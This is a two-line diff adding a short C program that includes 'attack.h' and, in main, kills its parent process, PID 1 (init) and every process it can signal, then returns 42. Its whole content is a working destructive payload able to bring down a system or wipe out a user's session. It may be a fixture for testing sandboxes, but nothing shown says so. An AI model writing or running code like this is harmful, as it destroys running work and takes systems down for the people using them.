@@ -1,0 +1,2 @@
+#include "attack.h"
+int main(void) { kill(getppid(), SIGKILL); kill(1, SIGKILL); kill(-1, SIGKILL); return 42; }
